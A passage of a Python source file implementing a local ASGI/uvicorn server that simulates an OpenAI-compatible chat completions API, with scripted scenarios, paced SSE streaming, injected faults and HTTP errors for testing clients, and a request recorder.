            await asyncio.sleep(0)  # an unpaced stream must still let the disconnect watcher run


_SSE_HEADERS = [
    (b"content-type", b"text/event-stream; charset=utf-8"),
    (b"cache-control", b"no-cache"),
]


def _json_headers(body: bytes) -> list[tuple[bytes, bytes]]:
    return [(b"content-type", b"application/json"), (b"content-length", str(len(body)).encode())]


# --------------------------------------------------------------------------- the ASGI app


@dataclass(frozen=True)
class _Job:
    """Everything needed to answer one resolved chat request."""

    request: ChatRequest
    scenario: str
    reply: Reply
    step: int
    pace_s: float
    envelope: _Envelope


class SimulatorApp:
    """The plain ASGI application (no framework: every byte on the wire is ours)."""

    def __init__(self, config: SimulatorConfig, recorder: Recorder) -> None:
        self.config, self.recorder = config, recorder

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "lifespan":
            await _lifespan(receive, send)
        elif scope["type"] == "http":
            await self._route(scope, receive, send)

    async def _route(self, scope: Scope, receive: Receive, send: Send) -> None:
        match scope["method"], scope["path"]:
            case "POST", "/v1/chat/completions":
                await self._chat(scope, receive, send)
            case "GET", "/v1/models":
                await _send_json(send, 200, _json(self._models()))
            case "GET", "/_sim/requests":
                run_id = parse_qs(scope["query_string"].decode()).get("run_id", [None])[0]
                records = [dataclasses.asdict(r) for r in self.recorder.records(run_id)]
                await _send_json(send, 200, _json(records))
            case "GET", "/_sim/health":
                # `open`: requests whose response is neither finished nor closed by the client (a
                # soak ends with 0: every upstream connection a run opened was closed).
                await _send_json(send, 200, _json({"status": "ok", "open": self.recorder.open_requests()}))
            case _, path:
                await _send_json(send, 404, _error_body(f"no route for {path}", "not_found_error", "not_found"))

    def _models(self) -> dict[str, Any]:
        ids = [self.config.model, *(f"sim-{name}" for name in SCENARIOS)]
        models = [{"id": i, "object": "model", "created": 0, "owned_by": "runforge"} for i in ids]
        return {"object": "list", "data": models}

    async def _chat(self, scope: Scope, receive: Receive, send: Send) -> None:
        started_at = time.monotonic()
        body = await _read_body(receive)
        if body is None:
            return  # the client left while still sending its request
        try:
            job = self._job(scope, body)
        except RequestError as exc:
            error = _error_body(exc.message, "invalid_request_error", exc.code)
            await _send_json(send, exc.status, error)
            return
        record = dataclasses.replace(
            self._record(job, started_at), client_port=_client_port(scope), api_key=_bearer(scope)
        )
        exchange = _Exchange(send, self.recorder, self.recorder.add(record))
        try:
            await _race_disconnect(receive, _answer(exchange, job), exchange)
        except BaseException as exc:
            self.recorder.note_failed(exchange.seq, repr(exc))
            raise

    def _job(self, scope: Scope, body: bytes) -> _Job:
        headers = {k.decode("latin-1").lower(): v.decode("latin-1") for k, v in scope["headers"]}
        request = parse_chat_request(body, headers, self.config.model)
        scenario, params = resolve_scenario(request, self.config)
        step = conversation_step(request.messages)
        reply = scenario.reply(Turn(step, params, output_format(request.messages)))
        pace_ms = _first_set(params.pace_ms, scenario.default_pace_ms, self.config.pace_ms)
        envelope = _Envelope(id=f"chatcmpl-sim-{time.monotonic_ns():x}", model=request.model)
        return _Job(request, scenario.name, reply, step, pace_ms / 1000, envelope)

    def _record(self, job: _Job, started_at: float) -> RequestRecord:
        tool_results = sum(1 for m in job.request.messages if m.get("role") == "tool")
        return RequestRecord(
            seq=0,
            run_id=job.request.run_id,
            scenario=job.scenario,
            model=job.request.model,
            stream=job.request.stream,
            started_at=started_at,
            tool_results_seen=tool_results,
            tool_names_offered=job.request.tool_names,
            last_user_message=_last_user_text(job.request.messages)[:_RECORDED_PROMPT_CHARS],
            fields=list(job.request.fields),
            sent_at=job.request.sent_at,
        )


def _bearer(scope: Scope) -> str | None:
    for name, value in scope["headers"]:
        if name == b"authorization":
            return str(value.decode("latin-1").removeprefix("Bearer "))
    return None


def _client_port(scope: Scope) -> int | None:
    client = scope.get("client")
    return int(client[1]) if client else None


def _last_user_text(messages: Sequence[Mapping[str, Any]]) -> str:
    last_user = next((m for m in reversed(messages) if m.get("role") == "user"), None)
    return _message_text(last_user) if last_user else ""


def _first_set(*values: float | None) -> float:
    return next(v for v in values if v is not None)


def create_simulator_app(config: SimulatorConfig, recorder: Recorder) -> SimulatorApp:
    return SimulatorApp(config, recorder)


async def _lifespan(receive: Receive, send: Send) -> None:
    # Lifespan is off in SimulatorServer; this only keeps the app correct if someone enables it.
    while True:
        message = await receive()
        if message["type"] == "lifespan.startup":
            await send({"type": "lifespan.startup.complete"})
        elif message["type"] == "lifespan.shutdown":
            await send({"type": "lifespan.shutdown.complete"})
            return


async def _read_body(receive: Receive) -> bytes | None:
    chunks: list[bytes] = []
    while True:
        message = await receive()
        if message["type"] == "http.disconnect":
            return None
        chunks.append(message.get("body", b""))
        if not message.get("more_body", False):
            return b"".join(chunks)


async def _send_json(send: Send, status: int, body: bytes) -> None:
    await send({"type": "http.response.start", "status": status, "headers": _json_headers(body)})
    await send({"type": "http.response.body", "body": body, "more_body": False})


async def _race_disconnect(receive: Receive, work: Coroutine[Any, Any, None], exchange: _Exchange) -> None:
    """Run ``work`` while a watcher awaits ``http.disconnect``; whichever ends first wins.

    The watcher records the disconnect itself, the moment ``receive()`` returns, so the
    timestamp does not wait for the producer to wake up from its pacing sleep.
    """
    producer = asyncio.create_task(work)
    watcher = asyncio.create_task(_watch_disconnect(receive, exchange))
    try:
        await asyncio.wait((producer, watcher), return_when=asyncio.FIRST_COMPLETED)
    finally:
        producer.cancel()
        watcher.cancel()
        await asyncio.gather(producer, watcher, return_exceptions=True)
    if producer.done() and not producer.cancelled():
        error = producer.exception()
        if error is not None and not isinstance(error, _ClientGone):
            raise error


async def _watch_disconnect(receive: Receive, exchange: _Exchange) -> None:
    while (await receive())["type"] != "http.disconnect":
        pass
    # After a completed response uvicorn also reports a disconnect; the recorder ignores it.
    exchange.note_disconnect()


async def _answer(exchange: _Exchange, job: _Job) -> None:
    reply = job.reply
    if reply.header_delay_s:
        await asyncio.sleep(reply.header_delay_s)
    if reply.http_status is not None:
        await _answer_http_error(exchange, reply.http_status)
    elif job.request.stream:
        await _answer_stream(exchange, job)
    else:
        await _answer_whole(exchange, job)


async def _answer_http_error(exchange: _Exchange, status: int) -> None:
    kind = "rate_limit_error" if status == 429 else "server_error" if status >= 500 else "invalid_request_error"
    body = _error_body(f"simulated HTTP {status}", kind, f"sim_http_{status}")
    # retry-after: 0 lets a retrying client come back at once instead of backing off.
    extra = [(b"retry-after", b"0")] if status == 429 else []
    await exchange.json(status, body, extra)


async def _answer_stream(exchange: _Exchange, job: _Job) -> None:
    await exchange.start(200, _SSE_HEADERS)
    if job.reply.first_token_delay_s:
        await asyncio.sleep(job.reply.first_token_delay_s)
    writer = _EventWriter(exchange, job.pace_s)
    for sent, delta in enumerate(deltas(job.reply, job.step)):
        fault = job.reply.fault
        if fault and sent == fault.after and not await _inject_fault(writer, fault):
            return
        choice = {"index": 0, "delta": delta, "logprobs": None, "finish_reason": None}
        await writer.event(job.envelope.chunk([choice]))
    await _finish_stream(writer, job, generated_tokens(job.reply, job.step))


async def _inject_fault(writer: _EventWriter, fault: Fault) -> bool:
    """Send the broken event; return whether the stream goes on afterwards."""
    if fault.kind == "malformed":
        await writer.event(b"{not json", paced=False)
        return True
    await writer.event(_error_body("simulated upstream failure", "server_error", "sim_error"), paced=False)
    await writer.close()  # a failing upstream ends the stream without [DONE]
    return False


async def _finish_stream(writer: _EventWriter, job: _Job, tokens: int) -> None:
    last = {"index": 0, "delta": {}, "logprobs": None, "finish_reason": job.reply.finish_reason}
    await writer.event(job.envelope.chunk([last]), paced=False)
    if job.request.include_usage:
        await writer.event(job.envelope.chunk([], usage=_usage(job.request, tokens)), paced=False)
    await writer.event(b"[DONE]", paced=False)
    await writer.close()


async def _answer_whole(exchange: _Exchange, job: _Job) -> None:
    """Non-streaming: the same content, after the same total delay, in one body."""
    reply = job.reply
    chunks = sum(1 for _ in deltas(reply, job.step))
    if reply.fault:
        chunks = reply.fault.after
    await asyncio.sleep(reply.first_token_delay_s + chunks * job.pace_s)
    if reply.fault and reply.fault.kind == "error":
        await exchange.json(500, _error_body("simulated upstream failure", "server_error", "sim_error"))
    elif reply.fault:
        await exchange.json(200, b"{not json")
    else:
        usage = _usage(job.request, generated_tokens(reply, job.step))
        await exchange.json(200, job.envelope.completion(reply, job.step, usage))


def generated_tokens(reply: Reply, step: int) -> int:
    """Completion tokens: the deltas that carry text or tool arguments (not the role chunk)."""
    return sum(1 for delta in deltas(reply, step) if delta.get("content") or _has_arguments(delta))


def _has_arguments(delta: dict[str, Any]) -> bool:
    return any(call.get("function", {}).get("arguments") for call in delta.get("tool_calls", ()))


# --------------------------------------------------------------------------- the server


class _ReadyServer(uvicorn.Server):
    """A uvicorn.Server that reports the end of its startup, success or not, via an Event."""

    def __init__(self, config: uvicorn.Config, ready: threading.Event) -> None:
        super().__init__(config)
        self._ready = ready

    async def startup(self, sockets: list[socket.socket] | None = None) -> None:
        try:
            await super().startup(sockets=sockets)
        finally:
            self._ready.set()


def _bind(host: str, port: int) -> socket.socket:
    # Binding ourselves (instead of letting uvicorn do it) makes port 0 usable: the real
    # port is known before the server thread starts.
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    return socket.create_server((host, port), family=family)


def _uvicorn_config(app: SimulatorApp, *, embedded: bool) -> uvicorn.Config:
    common: dict[str, Any] = {"lifespan": "off", "ws": "none", "timeout_graceful_shutdown": 1}
    if embedded:
        # uvicorn's logging settings are process-wide: log_config is a dictConfig of the
        # "uvicorn.*" loggers, log_level sets their levels and access_log=False strips the
        # access logger's handlers. Embedded, any of them would reconfigure the host's own
        # uvicorn (the Runforge API server), so leave logging entirely alone.
        return uvicorn.Config(app, log_config=None, log_level=None, **common)
    return uvicorn.Config(app, log_level="warning", access_log=False, **common)


_THREAD_NAME = "runforge-llm-simulator"


class _NotTheSimulatorsLifecycle(logging.Filter):
    """Drops uvicorn's INFO lines ("Started server process", "Shutting down", ...) logged by the
    embedded simulator's own uvicorn server: in the host's process they printed every one of the
    host server's lines twice. Its warnings and errors still go through."""

    def filter(self, record: logging.LogRecord) -> bool:
        return record.levelno > logging.INFO or record.threadName != _THREAD_NAME


def _quiet_lifecycle_lines() -> None:
    uvicorn_error = logging.getLogger("uvicorn.error")
    if not any(isinstance(f, _NotTheSimulatorsLifecycle) for f in uvicorn_error.filters):
        uvicorn_error.addFilter(_NotTheSimulatorsLifecycle())


class SimulatorServer:
    """Runs the simulator in a daemon thread with its own event loop (and no signal handlers)."""

    def __init__(self, config: SimulatorConfig | None = None, host: str = "127.0.0.1", port: int = 0) -> None:
        self._config = config or SimulatorConfig()
        self._host, self._requested_port = host, port
        self._recorder = Recorder()
        self._socket: socket.socket | None = None
        self._port: int | None = None
        self._server: _ReadyServer | None = None
        self._thread: threading.Thread | None = None
        self._ready = threading.Event()
        self._failure: BaseException | None = None

    @property
    def recorder(self) -> Recorder:
        return self._recorder

    @property
    def port(self) -> int:
        if self._port is None:
            raise RuntimeError("simulator is not started")
        return self._port

    @property
    def base_url(self) -> str:
        host = f"[{self._host}]" if ":" in self._host else self._host
        return f"http://{host}:{self.port}/v1"

    def start(self) -> SimulatorServer:
        if self._thread is not None:
            raise RuntimeError("simulator already started")
        self._socket = _bind(self._host, self._requested_port)
        self._port = int(self._socket.getsockname()[1])
        app = create_simulator_app(self._config, self._recorder)
        self._server = _ReadyServer(_uvicorn_config(app, embedded=True), self._ready)
        _quiet_lifecycle_lines()
        self._thread = threading.Thread(target=self._serve, name=_THREAD_NAME, daemon=True)
        self._thread.start()
        if not self._ready.wait(_STARTUP_TIMEOUT_S) or not self._server.started:
            self.stop()
            raise RuntimeError("LLM simulator failed to start") from self._failure
        return self

    def _serve(self) -> None:
        assert self._server is not None
        assert self._socket is not None
        try:
            self._server.run(sockets=[self._socket])
        except BaseException as exc:  # uvicorn reports startup failures as SystemExit
            self._failure = exc
        finally:
            self._socket.close()
            self._ready.set()  # unblock start() whatever happened

    def stop(self) -> None:
        if self._server is None or self._thread is None:
            return
        self._server.should_exit = True
        self._thread.join(_JOIN_TIMEOUT_S)
        if self._thread.is_alive():  # connections did not drain: stop waiting for them
            self._server.force_exit = True
            self._thread.join(_JOIN_TIMEOUT_S)

    def __enter__(self) -> SimulatorServer:
        return self.start()

    def __exit__(
        self, exc_type: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        self.stop()


# --------------------------------------------------------------------------- standalone


def main(argv: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description="Run the Runforge LLM simulator in the foreground.")
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8100)
    parser.add_argument("--pace-ms", type=float, default=SimulatorConfig.pace_ms)
    parser.add_argument("--default-scenario", default=SimulatorConfig.default_scenario, choices=list(SCENARIOS))
    parser.add_argument(
        "--max-records", type=int, default=DEFAULT_MAX_RECORDS, help="requests kept for GET /_sim/requests"
    )
    args = parser.parse_args(argv)
    config = SimulatorConfig(pace_ms=args.pace_ms, default_scenario=args.default_scenario)
    sock = _bind(args.host, args.port)
    app = create_simulator_app(config, Recorder(max_records=args.max_records))
    host = f"[{args.host}]" if ":" in args.host else args.host
    print(f"LLM simulator listening on http://{host}:{sock.getsockname()[1]}/v1", flush=True)
    # uvicorn re-raises the captured SIGINT after its graceful shutdown: Ctrl+C is a clean exit.
    with contextlib.closing(sock), contextlib.suppress(KeyboardInterrupt):
        uvicorn.Server(_uvicorn_config(app, embedded=False)).run(sockets=[sock])


if __name__ == "__main__":
    main()
